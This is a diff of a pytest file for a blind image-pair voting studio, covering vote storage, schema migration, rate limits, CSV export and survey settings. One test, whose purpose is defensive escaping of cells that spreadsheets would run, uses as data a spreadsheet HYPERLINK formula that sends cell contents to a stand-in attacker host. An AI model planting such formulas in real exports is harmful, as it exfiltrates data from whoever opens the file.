@@ -1,6 +1,8 @@
-"""Vote store, blind-pair bookkeeping (Studio with a stand-in pipeline), suites, report, export, config."""
+"""Vote store, blind-pair bookkeeping (Studio with a stand-in pipeline), per-image checks, CSV
+export, suites, report, sync export, config."""
 
-import hashlib
+import csv
+import dataclasses
 import json
 import sqlite3
 import threading
@@ -14,8 +16,11 @@ from surlib.pipeline import Generation
 from surlib.studio.markdown import md_escape
 from surlib.studio.prompts import BUILTIN_PROMPTS, example_prompts, load_suites, vote_pool
 from surlib.studio.report import NO_REPORT, latest_report, report_page
+from surlib.studio.checks import CheckStore, ChecksStored, NotVotedYet, parse_checks
+from surlib.studio.export import CHECK_COLUMNS, CsvExport, escape_cell, write_csv
 from surlib.studio.settings import AppConfig, ConfigError, default_data_dir
 from surlib.studio.studio import Studio
+from surlib.studio.survey import DEFAULT_INSTRUCTIONS, load_instructions
 from surlib.studio.sync import VoteExporter, start_sync
 from surlib.studio.votes import (
     AlreadyVoted,
@@ -27,7 +32,6 @@ from surlib.studio.votes import (
     VoteStore,
     WrongSession,
     check_choice,
-    hash_session,
     new_battle_id,
 )
 
@@ -51,9 +55,9 @@ def store(tmp_path):
 def test_schema_wal_and_sync(store):
     conn = sqlite3.connect(store.path)
     assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
-    assert conn.execute("PRAGMA user_version").fetchone()[0] == 1
+    assert conn.execute("PRAGMA user_version").fetchone()[0] == 2
     tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
-    assert {"battles", "votes"} <= tables
+    assert {"battles", "votes", "checks"} <= tables
     assert store._conn().execute("PRAGMA synchronous").fetchone()[0] == 1  # NORMAL (WAL)
     full = VoteStore(store.path, synchronous="FULL")
     assert full._conn().execute("PRAGMA synchronous").fetchone()[0] == 2
@@ -105,7 +109,7 @@ def test_refusals_name_the_problem(store):
         store.record_vote(None, "left", "s1")
     with pytest.raises(BadChoice, match="choice must be one of"):
         store.record_vote(b.battle_id, "middle", "s1")
-    with pytest.raises(WrongSession, match="another session"):
+    with pytest.raises(WrongSession, match="another voter"):
         store.record_vote(b.battle_id, "left", "s2")
     old = store.add_battle(_battle(created_at=time.time() - 2 * 86400))
     with pytest.raises(BattleExpired, match="expired"):
@@ -120,7 +124,7 @@ def test_rate_limits_per_minute_and_day(tmp_path):
     battles = [store.add_battle(_battle(created_at=t0)) for _ in range(7)]
     for i in range(3):
         store.record_vote(battles[i].battle_id, "tie", "s1", now=t0 + i)
-    with pytest.raises(RateLimited, match="3 per minute"):
+    with pytest.raises(RateLimited, match="3 per minute per voter"):
         store.record_vote(battles[3].battle_id, "tie", "s1", now=t0 + 3)
     other = store.add_battle(_battle(session="s2", created_at=t0))
     store.record_vote(other.battle_id, "tie", "s2", now=t0 + 3)  # limits are per session
@@ -149,10 +153,63 @@ def test_threads_share_a_store(store):
     assert not errors and store.vote_count() == 80
 
 
-def test_session_hash_is_salted_sha256():
-    h = hash_session("abc", "salt")
-    assert h == hashlib.sha256(b"salt:abc").hexdigest() and "abc" not in h
-    assert hash_session("abc", "other") != h and hash_session(None, "salt") == hash_session("anonymous", "salt")
+def test_pair_limits_per_voter_and_window(tmp_path):
+    store = VoteStore(tmp_path / "v.sqlite", pairs_per_minute=2, pairs_per_day=3)
+    t0 = time.time()
+    store.add_battle(_battle(created_at=t0 - 30))
+    store.add_battle(_battle(created_at=t0 - 10))
+    with pytest.raises(RateLimited, match="at most 2 per minute per voter"):
+        store.check_pair_rate("s1", now=t0)
+    with pytest.raises(RateLimited, match="at most 2 per minute per voter"):
+        store.add_battle(_battle(created_at=t0))  # the insert itself is limited too (no race)
+    store.add_battle(_battle(session="s2", created_at=t0))  # another voter
+    store.add_battle(_battle(created_at=t0 + 61))
+    with pytest.raises(RateLimited, match="at most 3 per 24 hours per voter"):
+        store.add_battle(_battle(created_at=t0 + 200))
+    n = store._conn().execute("SELECT COUNT(*) FROM battles WHERE session = 's1'").fetchone()[0]
+    assert n == 3
+    store.close()
+
+
+V1_SCHEMA = """
+CREATE TABLE battles (battle_id TEXT PRIMARY KEY, created_at REAL NOT NULL, session TEXT NOT NULL,
+    prompt TEXT NOT NULL, prompt_id TEXT, suite TEXT, category TEXT, seed INTEGER NOT NULL, steps INTEGER,
+    guidance REAL, negative_prompt TEXT, preset TEXT, base_model TEXT, adapter_id TEXT,
+    left_system TEXT NOT NULL, right_system TEXT NOT NULL,
+    adapter_side TEXT CHECK (adapter_side IN ('left', 'right')));
+CREATE TABLE votes (id INTEGER PRIMARY KEY AUTOINCREMENT,
+    battle_id TEXT NOT NULL UNIQUE REFERENCES battles(battle_id), ts REAL NOT NULL, created_at TEXT NOT NULL,
+    session TEXT NOT NULL, prompt TEXT NOT NULL, prompt_id TEXT, suite TEXT, category TEXT,
+    seed INTEGER NOT NULL, steps INTEGER, guidance REAL, preset TEXT, base_model TEXT, adapter_id TEXT,
+    left_system TEXT NOT NULL, right_system TEXT NOT NULL, adapter_side TEXT, choice TEXT NOT NULL,
+    winner TEXT NOT NULL, time_to_vote_s REAL);
+CREATE INDEX votes_session_ts ON votes(session, ts);
+CREATE INDEX votes_preset ON votes(preset);
+INSERT INTO battles VALUES ('old-pair-000000000000000', 1.0, 's-old', 'two cats', 't:1', 'toy', 'counting', 3,
+    4, 5.0, NULL, 'm', 'base', 'ada', 'm:baseline', 'm:sur-adapter', 'right');
+INSERT INTO votes (battle_id, ts, created_at, session, prompt, seed, left_system, right_system, adapter_side,
+    choice, winner, preset) VALUES ('old-pair-000000000000000', 2.0, '1970', 's-old', 'two cats', 3,
+    'm:baseline', 'm:sur-adapter', 'right', 'right', 'm:sur-adapter', 'm');
+PRAGMA user_version = 1;
+"""
+
+
+def test_a_version_1_database_is_migrated_and_keeps_its_votes(tmp_path):
+    db = tmp_path / "old.sqlite"
+    with sqlite3.connect(db) as conn:
+        conn.executescript(V1_SCHEMA)
+    store = VoteStore(db)
+    assert store._conn().execute("PRAGMA user_version").fetchone()[0] == 2
+    old = store.get_vote("old-pair-000000000000000")
+    assert old["choice"] == "right" and old["winner"] == "m:sur-adapter" and store.vote_count() == 1
+    b = store.add_battle(_battle())  # the new schema works on the old file
+    store.record_vote(b.battle_id, "left", "s1")
+    CheckStore(store).record(b.battle_id, "s1", {"left": {"count": "yes"}})
+    assert store.vote_count() == 2 and len(CheckStore(store).rows()) == 1
+    store.close()
+    reopened = VoteStore(db)  # and opening it again changes nothing
+    assert reopened.vote_count() == 2 and reopened._conn().execute("PRAGMA user_version").fetchone()[0] == 2
+    reopened.close()
 
 
 def test_only_the_four_choices_are_accepted(store):
@@ -165,14 +222,82 @@ def test_only_the_four_choices_are_accepted(store):
 
 
 def test_csv_export(store, tmp_path):
+    checks = CheckStore(store)
     for side in ("left", "right"):
-        b = store.add_battle(_battle(side=side))
+        b = checks.add_battle(_battle(side=side), judge={"left": {"count": True}, "right": {"count": False}})
         store.record_vote(b.battle_id, "left", "s1")
-    path = store.export_csv(tmp_path / "out" / "votes.csv")
-    import csv
-
+    checks.record(b.battle_id, "s1", {"right": {"color": "unsure"}})
+    path = write_csv(tmp_path / "out" / "votes.csv", store.votes(), checks.rows())
     rows = list(csv.DictReader(open(path)))
     assert len(rows) == 2 and rows[0]["adapter_side"] == "left" and rows[1]["winner"] == "m:baseline"
+    # first pair: adapter left (judged right), baseline right (judged wrong); second the other way
+    assert (rows[0]["judge_adapter_count"], rows[0]["judge_baseline_count"]) == ("yes", "no")
+    assert (rows[1]["judge_baseline_count"], rows[1]["judge_adapter_count"]) == ("yes", "no")
+    assert rows[1]["human_adapter_color"] == "unsure" and rows[0]["human_adapter_color"] == ""
+    assert set(CHECK_COLUMNS) <= set(rows[0]) and not list(path.parent.glob("*.tmp"))
+
+
+def test_csv_cells_that_spreadsheets_run_are_escaped(store, tmp_path):
+    prompt = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for text in (prompt, "+1 cat", "-2 cats", "@SUM(A1)", "\tcat", "\rcat", "two cats"):
+        b = store.add_battle(dataclasses.replace(_battle(), prompt=text))
+        store.record_vote(b.battle_id, "tie", "s1")
+    path = write_csv(tmp_path / "votes.csv", store.votes())
+    prompts = [r["prompt"] for r in csv.DictReader(open(path, newline=""))]
+    assert prompts == ["'" + prompt, "'+1 cat", "'-2 cats", "'@SUM(A1)", "'\tcat", "'\rcat", "two cats"]
+    assert escape_cell(-1.5) == -1.5 and escape_cell(None) is None  # numbers stay numbers
+
+
+def test_export_is_one_file_rewritten_only_when_votes_change(store, tmp_path):
+    export = CsvExport(store.path, root=tmp_path / "exports")
+    b = store.add_battle(_battle())
+    store.record_vote(b.battle_id, "left", "s1")
+    first = export.export("m", store.version("m"), store.votes, ())
+    stat = first.stat()
+    for _ in range(20):
+        assert export.export("m", store.version("m"), lambda: pytest.fail("rewritten"), ()) == first
+    assert first.stat().st_mtime_ns == stat.st_mtime_ns and first.stat().st_ino == stat.st_ino
+    b2 = store.add_battle(_battle())
+    store.record_vote(b2.battle_id, "right", "s1")
+    again = export.export("m", store.version("m"), store.votes, ())
+    assert again == first and len(list(csv.DictReader(open(again)))) == 2
+    assert [p.name for p in export.folder.iterdir()] == ["sur-votes-m.csv"]
+
+
+# ----------------------------------------------------------------------------- per-image checks
+def test_checks_only_by_the_voter_after_the_vote_once(store):
+    checks = CheckStore(store)
+    b = checks.add_battle(_battle(side="right"), judge={"left": {"count": True, "color": False}})
+    assert [(r["source"], r["side"], r["system"], r["attribute"], r["verdict"]) for r in checks.of_battle(b.battle_id)] \
+        == [("judge", "left", "m:baseline", "color", "no"), ("judge", "left", "m:baseline", "count", "yes")]
+    answers = {"left": {"count": "yes", "action": "unsure"}, "right": {"color": "no"}}
+    with pytest.raises(NotVotedYet, match="vote on this pair first"):
+        checks.record(b.battle_id, "s1", answers)
+    store.record_vote(b.battle_id, "left", "s1")
+    with pytest.raises(WrongSession, match="another voter"):
+        checks.record(b.battle_id, "s2", answers)
+    with pytest.raises(UnknownBattle, match="unknown pair id"):
+        checks.record(new_battle_id(), "s1", answers)
+    rows = checks.record(b.battle_id, "s1", answers)
+    assert {(r["side"], r["system"], r["attribute"], r["verdict"]) for r in rows} == {
+        ("left", "m:baseline", "count", "yes"), ("left", "m:baseline", "action", "unsure"),
+        ("right", "m:sur-adapter", "color", "no")}
+    with pytest.raises(ChecksStored, match="once per pair"):
+        checks.record(b.battle_id, "s1", {"left": {"count": "no"}})
+    human = [r for r in checks.rows("m") if r["source"] == "human"]
+    assert len(human) == 3 and human[0]["category"] == "count" and checks.rows("other") == []
+
+
+def test_parse_checks_names_the_field_and_the_answers():
+    assert parse_checks({"left_count": "Yes ", "right_action": "unsure", "left_color": "", "right_color": None}) == \
+        {"left": {"count": "yes"}, "right": {"action": "unsure"}}
+    with pytest.raises(ValueError, match="left_color must be one of yes, no, unsure \\(or empty for no answer\\); "
+                                         "got 'maybe'"):
+        parse_checks({"left_color": "maybe"})
+    with pytest.raises(ValueError, match="no check answered: give at least one of left_count"):
+        parse_checks({"left_count": None})
+
+
 
 
 # ----------------------------------------------------------------------------- the studio
@@ -201,7 +326,7 @@ def _config(tmp_path, **kw):
 
 @pytest.fixture
 def studio(tmp_path):
-    cfg = _config(tmp_path)
+    cfg = _config(tmp_path, pairs_per_minute=1000)
     pipe = FakePipe()
     s = Studio.from_config(cfg, pipe=pipe)
     s.fake = pipe
@@ -237,7 +362,7 @@ def test_battles_are_blind_random_and_consistent(studio):
         adapter_img = left if battle.adapter_side == "left" else right
         baseline_img = right if battle.adapter_side == "left" else left
         assert adapter_img.getpixel((0, 0)) == (0, 0, 255) and baseline_img.getpixel((0, 0)) == (255, 0, 0)
-        assert battle.session == hash_session("sess-A", "test-salt")
+        assert battle.session == "sess-A"  # the voter key the app derived (identity.py)
         assert battle.prompt in BUILTIN_PROMPTS and battle.prompt_id.startswith("builtin:")
         sides.append(battle.adapter_side)
     assert 8 <= sides.count("left") <= 32  # p(fail) < 1e-4 for a fair coin
@@ -250,7 +375,7 @@ def test_studio_vote_reveals_after_storing(studio):
     _, _, public = studio.new_battle("  my own prompt ", "sess-A")
     battle = studio.store.get_battle(public["battle_id"])
     assert battle.prompt == "my own prompt" and battle.prompt_id is None
-    with pytest.raises(WrongSession):
+    with pytest.raises(WrongSession, match="another voter"):
         studio.vote(public["battle_id"], "left", "sess-B")
     reveal = studio.vote(public["battle_id"], "left", "sess-A")
     assert reveal["adapter_side"] == battle.adapter_side and reveal["seed"] == battle.seed
@@ -273,6 +398,78 @@ def test_studio_results_and_csv(studio):
     assert studio.results("all", bt_rounds=10)["total_votes"] == 4
     assert studio.results("sd15", bt_rounds=10)["total_votes"] == 0
     assert studio.result_presets()[0] == "all" and "tiny" in studio.result_presets()
+
+
+def test_pair_limit_is_checked_before_generating(tmp_path):
+    pipe = FakePipe()
+    s = Studio.from_config(_config(tmp_path, pairs_per_minute=2), pipe=pipe)
+    s.new_battle("", "v1")
+    s.new_battle("", "v1")
+    with pytest.raises(RateLimited, match="too many new pairs: at most 2 per minute per voter"):
+        s.new_battle("", "v1")
+    assert len(s.store.read("SELECT * FROM battles")) == len(pipe.calls) == 2  # refused before generating
+    s.new_battle("", "v2")  # another voter still gets one
+    s.store.close()
+
+
+def test_survey_mode_gives_a_receipt_and_draws_its_own_prompts(tmp_path):
+    s = Studio.from_config(_config(tmp_path, mode="survey"), pipe=FakePipe())
+    with pytest.raises(ValueError, match="this survey draws its prompts from its suites"):
+        s.new_battle("my own words", "v1")
+    _, _, public = s.new_battle("", "v1")
+    receipt = s.vote(public["battle_id"], "left", "v1")
+    assert set(receipt) == {"battle_id", "choice", "created_at"}  # no side, no system, no seed
+    assert "left was" not in s.reveal_markdown(receipt).lower() and "vote stored" in s.reveal_markdown(receipt)
+    assert s.store.get_vote(public["battle_id"])["adapter_side"] in ("left", "right")  # stored all the same
+    s.store.close()
+
+
+def test_the_toy_judge_checks_both_images_of_a_parsed_prompt(tmp_path):
+    from surlib.studio.pair_judge import PairJudge
+
+    class Judge:  # reads every image as three red robots jumping
+        def judge(self, images):
+            return [{"count": 3, "color": "red", "action": "jumping", "kind": "robot"} for _ in images]
+
+    s = Studio.from_config(_config(tmp_path), pipe=FakePipe())
+    s.judge = PairJudge(Judge(), lambda p: {"count": 3, "color": "blue", "action": "jumping"} if "robots" in p else None)
+    _, _, public = s.new_battle("three blue robots jumping", "v1")
+    rows = s.checks.of_battle(public["battle_id"])
+    assert {(r["side"], r["attribute"], r["verdict"]) for r in rows} == {
+        (side, a, v) for side in ("left", "right") for a, v in (("count", "yes"), ("color", "no"), ("action", "yes"))}
+    _, _, other = s.new_battle("a cat", "v1")
+    assert s.checks.of_battle(other["battle_id"]) == []  # no scene, no verdicts
+    s.vote(public["battle_id"], "left", "v1")
+    s.record_checks(public["battle_id"], "v1", left_count="yes", left_color="yes", right_color="no")
+    res = s.results("tiny", bt_rounds=5)
+    color = {(r["attribute"], r["variant"]): r for r in res["checks"]}
+    battle = s.store.get_battle(public["battle_id"])
+    left_variant = "adapter" if battle.adapter_side == "left" else "baseline"
+    c = color[("color", left_variant)]
+    assert (c["human_yes"], c["human_no"], c["judge_n"], c["judge_accuracy"], c["both"], c["agree"]) == (1, 0, 1, 0.0, 1, 0)
+    assert color[("all", "all")]["both"] == 3 and color[("all", "all")]["agree"] == 2
+    s.store.close()
+
+
+def test_the_real_toy_judge_reads_toy_suite_prompts():
+    from surlib.studio.pair_judge import PairJudge, toy_expectation
+    from surlib.toy.judge import DEFAULT_WEIGHTS
+
+    assert toy_expectation("four golden yellow robots standing up straight on a lawn") == \
+        {"count": 4, "color": "yellow", "action": "standing"}
+    assert toy_expectation("two red cats") is None  # no action: the grammar cannot read it
+    if not DEFAULT_WEIGHTS.exists():
+        pytest.skip("no toy judge weights")
+    judge = PairJudge.for_setting("auto", "toy")
+    assert PairJudge.for_setting("auto", "sd15") is None and PairJudge.for_setting("off", "toy") is None
+    from surlib.toy.render import render
+    from surlib.toy.scene import Scene
+
+    right = render(Scene(4, "yellow", "robot", "standing", "grass"), 0)
+    wrong = render(Scene(2, "red", "cat", "lying", "white"), 0)
+    v = judge.verdicts("four golden yellow robots standing up straight on a lawn", {"left": right, "right": wrong})
+    assert v == {"left": {"count": True, "color": True, "action": True},
+                 "right": {"count": False, "color": False, "action": False}}
 
 
 def test_exporter_failure_never_fails_a_vote(studio):
@@ -392,6 +589,44 @@ def test_config_from_env(tmp_path):
         AppConfig.from_env({"SUR_PRESET": "tiny", "SUR_SQLITE_SYNC": "OFF"})
     assert "hf_secret" not in repr(AppConfig.from_env({"SUR_PRESET": "tiny", "HF_TOKEN": "hf_secret"}))
     assert default_data_dir({}) in (Path("outputs/sur-studio"), Path("/data/sur-studio"))
+
+
+def test_survey_integrity_settings(tmp_path):
+    base = {"SUR_PRESET": "tiny", "SUR_DATA_DIR": str(tmp_path)}
+    cfg = AppConfig.from_env(base)
+    assert (cfg.mode, cfg.survey, cfg.reveal_sides, cfg.oauth, cfg.trusted_proxies, cfg.judge) == \
+        ("studio", False, True, False, "", "auto")
+    assert (cfg.pairs_per_minute, cfg.pairs_per_day) == (30, 2000) and not cfg.proxy_trust.enabled
+    assert cfg.delete_cache == (600, 3600)
+    survey = AppConfig.from_env({**base, "SUR_MODE": "Survey", "SUR_PAIRS_PER_MIN": "4", "SUR_CACHE_MAX_AGE_S": "120"})
+    assert survey.survey and not survey.reveal_sides and survey.pairs_per_minute == 4 and survey.delete_cache == (120, 120)
+    assert AppConfig.from_env({**base, "SUR_MODE": "survey", "SUR_REVEAL": "yes"}).reveal_sides
+    space = AppConfig.from_env({**base, "SPACE_ID": "me/studio", "OAUTH_CLIENT_ID": "x"})
+    assert space.proxy_trust.hops == 1 and space.oauth  # Spaces: one proxy hop; hf_oauth sets OAUTH_CLIENT_ID
+    assert not AppConfig.from_env({**base, "SPACE_ID": "me/studio"}).oauth
+    assert AppConfig.from_env({**base, "SPACE_ID": "me/s", "SUR_TRUSTED_PROXIES": ""}).proxy_trust.enabled is False
+    nets = AppConfig.from_env({**base, "SUR_TRUSTED_PROXIES": "10.0.0.0/8, 127.0.0.1"}).proxy_trust
+    assert [str(n) for n in nets.networks] == ["10.0.0.0/8", "127.0.0.1/32"]
+    for env, message in [({"SUR_MODE": "kiosk"}, "SUR_MODE must be one of studio, survey, got 'kiosk'"),
+                         ({"SUR_JUDGE": "vqa"}, "SUR_JUDGE must be one of auto, toy, off, got 'vqa'"),
+                         ({"SUR_OAUTH": "maybe"}, "SUR_OAUTH must be 1 or 0"),
+                         ({"SUR_TRUSTED_PROXIES": "proxy.local"}, "'proxy.local' is neither"),
+                         ({"SUR_TRUSTED_PROXIES": "99"}, "hop count must be between 0 and 16, got 99"),
+                         ({"SUR_REQUIRE_LOGIN": "1"}, "SUR_REQUIRE_LOGIN=1 needs SUR_OAUTH=1"),
+                         ({"SUR_PAIRS_PER_MIN": "0"}, "SUR_PAIRS_PER_MIN must be at least 1")]:
+        with pytest.raises(ConfigError, match=message.replace("(", "\\(").replace(")", "\\)")):
+            AppConfig.from_env({**base, **env})
+
+
+def test_survey_instructions_from_text_or_file(tmp_path):
+    assert load_instructions(None) == DEFAULT_INSTRUCTIONS and load_instructions("  ") == DEFAULT_INSTRUCTIONS
+    assert load_instructions("## Our study\nPick one.") == "## Our study\nPick one."
+    f = tmp_path / "intro.md"
+    f.write_text("# Lab survey\n\nThank you.", encoding="utf-8")
+    assert load_instructions(str(f)) == "# Lab survey\n\nThank you."
+    with pytest.raises(ValueError, match="names the file .*missing.md.*cannot be read"):
+        load_instructions(str(tmp_path / "missing.md"))
+    assert load_instructions("x" * 2000) == "x" * 2000  # a long single line is text, not a path
 
 
 def test_salt_is_created_once_and_private(tmp_path):
